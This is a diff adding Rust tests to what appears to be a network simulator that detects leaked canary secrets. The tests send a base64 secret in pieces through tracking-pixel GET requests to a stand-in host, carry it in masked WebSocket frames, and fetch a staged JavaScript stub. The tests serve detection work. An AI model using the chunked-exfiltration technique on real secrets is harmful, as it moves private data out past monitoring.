@@ -514,3 +514,70 @@ async fn garbage_of_every_shape_leaves_the_services_standing() {
     assert_eq!(result.flows.len(), 241);
     assert!(result.flows.iter().all(|flow| flow.ended_us.is_some()));
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_secret_cut_into_pieces_over_many_requests_is_put_together() {
+    let sim = simulate();
+    let text = base64::engine::general_purpose::URL_SAFE.encode(SECRET);
+    for (number, piece) in text.as_bytes().chunks(9).enumerate() {
+        let piece = String::from_utf8_lossy(piece);
+        let mut tcp = TcpStream::connect(sim.tcp).await.unwrap();
+        let request = format!(
+            "GET /p.gif?n={number}&d={piece} HTTP/1.1\r\nHost: img.example\r\nConnection: close\r\n\r\n"
+        );
+        tcp.write_all(request.as_bytes()).await.unwrap();
+        tcp.read_to_end(&mut Vec::new()).await.unwrap();
+    }
+    let (result, _) = sim.finish().await;
+    let hits: Vec<_> = result
+        .flows
+        .iter()
+        .flat_map(|flow| &flow.canary_hits)
+        .collect();
+    assert_eq!(hits.len(), 1, "{hits:?}");
+    assert_eq!(hits[0].layers, ["http.requests", "base64"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_websocket_is_agreed_to_and_its_masked_frames_are_read() {
+    let sim = simulate();
+    let mut tcp = TcpStream::connect(sim.tcp).await.unwrap();
+    // Key and answer of the protocol's own specification.
+    tcp.write_all(
+        b"GET /chat HTTP/1.1\r\nHost: push.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
+          Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
+    )
+    .await
+    .unwrap();
+    let mut head = Vec::new();
+    while !head.ends_with(b"\r\n\r\n") {
+        assert_ne!(tcp.read_buf(&mut head).await.unwrap(), 0);
+    }
+    let head = String::from_utf8_lossy(&head).into_owned();
+    assert!(head.starts_with("HTTP/1.1 101 "), "{head}");
+    assert!(head.contains("s3pPLMBiTxaQ9kYGzzhZRbK+xOo="), "{head}");
+    let mask = [7, 1, 200, 9];
+    let masked = SECRET
+        .bytes()
+        .enumerate()
+        .map(|(at, byte)| byte ^ mask[at % 4]);
+    let mut frame = vec![0x82, 0x80 | u8::try_from(SECRET.len()).unwrap()];
+    frame.extend(mask);
+    frame.extend(masked);
+    tcp.write_all(&frame).await.unwrap();
+    tcp.shutdown().await.unwrap();
+    let (result, _) = sim.finish().await;
+    let flow = &result.flows[0];
+    assert_eq!(flow.canary_hits.len(), 1);
+    assert!(flow.layers.contains(&"websocket".to_owned()));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_javascript_stub_asks_for_the_marker_when_it_is_evaluated() {
+    let sim = simulate();
+    let url = format!("http://{}/v2/theme.js", sim.tcp);
+    let Some(output) = sim.curl(&[&url]).await else {
+        return;
+    };
+    assert!(stdout(&output).contains(apa_netsim::STAGE_TWO_MARKER));
+}
